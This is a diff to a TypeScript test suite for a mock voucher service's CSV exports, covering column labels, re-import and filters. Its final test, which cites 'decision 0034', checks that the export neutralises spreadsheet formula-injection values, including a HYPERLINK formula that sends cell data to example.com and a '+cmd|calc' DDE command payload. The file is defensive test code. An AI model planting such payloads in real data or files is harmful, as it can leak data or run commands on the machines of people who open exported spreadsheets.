@@ -40,7 +40,7 @@ const raw = (path: string, init: RequestInit = {}) => mock.raw(path, { ...init, 
 const errorOf = async (response: Response) => ({ status: response.status, body: (await response.json()) as Record<string, unknown> });
 
 describe('exports: vouchers', () => {
-  test('default columns are code, voucher_type, value and discount_type, newest first', async () => {
+  test('default columns are code, voucher_type, value and discount_type, headed by their labels, newest first', async () => {
     const { vouchers } = state();
     vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'PERCENT', percent_off: 15 }, code: 'P15' });
     mock.service.clock.advance(1000);
@@ -50,7 +50,8 @@ describe('exports: vouchers', () => {
     expect(created.id).toMatch(/^exp_/);
     expect(created.parameters?.fields).toEqual(['code', 'voucher_type', 'value', 'discount_type']);
     const { table } = await finished(created.id);
-    expect(table.columns).toEqual(['code', 'voucher_type', 'value', 'discount_type']);
+    // The header holds the columns' labels, as the service's sample voucher file does.
+    expect(table.columns).toEqual(['Code', 'Voucher Type', 'Value', 'Discount Type']);
     expect(rowsOf(table)).toEqual([
       ['GIFT-1', 'GIFT_VOUCHER', '5000', ''],
       ['P15', 'DISCOUNT_VOUCHER', '15', 'PERCENT'],
@@ -75,12 +76,102 @@ describe('exports: vouchers', () => {
       },
     });
     const { table } = await finished(created.id);
-    expect(table.columns).toEqual(['id', 'code', 'value', 'campaign', 'active', 'metadata']);
+    expect(table.columns).toEqual(['ID', 'Code', 'Value', 'Campaign', 'Active', 'Metadata']);
     expect(rowsOf(table).map((row) => row.slice(1))).toEqual([
       ['A-1', '500', 'Spring', 'true', '{"region":"north","note":"has, comma"}'],
       ['B-2', '500', 'Spring', 'true', '{"region":"north","note":"has, comma"}'],
     ]);
     expect(rowsOf(table)[0]?.[0]).toBe(vouchers.get('A-1').id);
+  });
+  test('the header of the sample file (ID, Code, Voucher Type, Value); other columns by the same rule', async () => {
+    state().vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 2000 }, code: 'G-1' });
+    const created = await createExport({ exported_object: 'voucher', parameters: { fields: ['id', 'code', 'voucher_type', 'value', 'campaign_id', 'validation_rules_id', 'is_referral_code'] } });
+    const { text, table } = await finished(created.id);
+    expect(text.split('\r\n')[0]).toBe('ID,Code,Voucher Type,Value,Campaign ID,Validation Rules ID,Is Referral Code');
+    expect(rowsOf(table)[0]?.slice(1)).toEqual(['G-1', 'GIFT_VOUCHER', '2000', '', '', 'false']);
+  });
+
+  test('a labelled file imports back: the voucher import reads the labels as its columns', async () => {
+    state().vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 2500 }, code: 'ROUND-1' });
+    const created = await createExport({ exported_object: 'voucher', parameters: { fields: ['code', 'voucher_type', 'value'] } });
+    const { text } = await finished(created.id);
+    expect(text).toBe('Code,Voucher Type,Value\r\nROUND-1,GIFT_VOUCHER,2500\r\n');
+    const form = new FormData();
+    form.append('file', new Blob([text.replace('ROUND-1', 'ROUND-2')], { type: 'text/csv' }), 'vouchers.csv');
+    const response = await mock.raw('/v1/vouchers/importCSV', { method: 'POST', headers: serverHeaders(mock.service), body: form });
+    expect(response.status).toBe(202);
+    await mock.service.scheduler.drain();
+    expect(state().vouchers.get('ROUND-2')).toMatchObject({ type: 'GIFT_VOUCHER', gift: { amount: 2500 } });
+  });
+
+  test('redemption_status filters on the voucher\'s wallet state when the rows are picked', async () => {
+    const { vouchers } = state();
+    const day = 24 * 60 * 60 * 1000;
+    const now = mock.service.clock.now();
+    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'ACTIVE-1' });
+    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'OFF-1' });
+    vouchers.setActive('OFF-1', false);
+    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'LATER-1', start_date: new Date(now + day).toISOString() });
+    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'SOON-GONE', expiration_date: new Date(now + day).toISOString() });
+    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'ONCE-1', redemption: { quantity: 1 } });
+    vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 0 }, code: 'EMPTY-1' });
+    const redeemed = await client().POST('/v1/redemptions', { body: { redeemables: [{ object: 'voucher', id: 'ONCE-1' }], order: { amount: 1000 } } });
+    expect(redeemed.response.status).toBe(200);
+    const exportWith = async (filters: Record<string, unknown>) => {
+      const created = await createExport({ exported_object: 'voucher', parameters: { fields: ['code'], order: 'code', filters } });
+      return rowsOf((await finished(created.id)).table).map(([code]) => code);
+    };
+    const status = (...values: string[]) => ({ redemption_status: { conditions: { $in: values } } });
+    // The export is created now, but its rows are picked when the job runs: two days later, SOON-GONE has expired.
+    mock.service.clock.advance(2 * day);
+    expect(await exportWith(status('ACTIVE'))).toEqual(['ACTIVE-1', 'LATER-1']);
+    expect(await exportWith(status('DISABLED'))).toEqual(['OFF-1']);
+    expect(await exportWith(status('EXPIRED'))).toEqual(['SOON-GONE']);
+    expect(await exportWith(status('USED', 'NO_BALANCE'))).toEqual(['EMPTY-1', 'ONCE-1']);
+    expect(await exportWith({ redemption_status: { conditions: { $is_not: ['ACTIVE'] } }, junction: 'and', code: { conditions: { $starts_with: ['O'] } } })).toEqual(['OFF-1', 'ONCE-1']);
+  });
+
+  test('published_for_customer_id filters on the customer a voucher was published to', async () => {
+    const { campaigns } = state();
+    campaigns.create({ name: 'Spring', campaign_type: 'DISCOUNT_COUPONS', vouchers_count: 3, voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } } });
+    await mock.service.scheduler.drain();
+    const publish = (sourceId: string) => client().POST('/v1/publications', { body: { campaign: { name: 'Spring' }, customer: { source_id: sourceId } } as never, params: { query: {} } });
+    const toAna = (await publish('ana')).data?.voucher?.code;
+    const toBen = (await publish('ben')).data?.voucher?.code;
+    const ana = state().customers.get('ana').id;
+    const exportWith = async (filters: Record<string, unknown>) => {
+      const created = await createExport({ exported_object: 'voucher', parameters: { fields: ['code', 'customer_id'], filters } });
+      return rowsOf((await finished(created.id)).table);
+    };
+    const ben = state().customers.get('ben').id;
+    expect(await exportWith({ published_for_customer_id: { conditions: { $is: [ana] } } })).toEqual([[toAna, ana]]);
+    expect(await exportWith({ published_for_customer_id: { conditions: { $in: [ana, ben] } } })).toEqual([
+      [toBen, ben],
+      [toAna, ana],
+    ]);
+    // The third code, never published, has no such customer.
+    expect(await exportWith({ published_for_customer_id: { conditions: { $has_value: [] } } })).toHaveLength(2);
+  });
+});
+
+describe('exports: spreadsheet formulas (decision 0034)', () => {
+  test('cells that would open as formulas are written as text; numbers, negative ones included, stay numbers', async () => {
+    const { orders, customers } = state();
+    customers.upsert({
+      source_id: '-2+3',
+      name: '=HYPERLINK("http://example.com/?"&A1,"open")',
+      description: '@SUM(1+1)',
+      address: { city: 'a;=1+1', line_1: '\t=1', line_2: '-100' },
+    });
+    const people = await createExport({ exported_object: 'customer', parameters: { fields: ['source_id', 'name', 'description', 'address_city', 'address_line_1', 'address_line_2'] } });
+    const { text, table } = await finished(people.id);
+    expect(text.split('\r\n')[1]).toBe('\'-2+3,"\'=HYPERLINK(""http://example.com/?""&A1,""open"")",\'@SUM(1+1),"a;=1+1",\'\t=1,-100');
+    expect(rowsOf(table)[0]).toEqual(['\'-2+3', '\'=HYPERLINK("http://example.com/?"&A1,"open")', '\'@SUM(1+1)', 'a;=1+1', '\'\t=1', '-100']);
+
+    orders.upsert({ source_id: 'o-1', status: 'PAID', metadata: { payment_mean: -100 } });
+    orders.upsert({ source_id: 'o-2', status: 'PAID', metadata: { payment_mean: '+cmd|calc' } });
+    const paid = await createExport({ exported_object: 'order', parameters: { fields: ['source_id', 'metadata.payment_mean'], order: 'created_at' } });
+    expect((await finished(paid.id)).text).toBe("source_id,metadata.payment_mean\r\no-1,-100\r\no-2,'+cmd|calc\r\n");
   });
 });
 
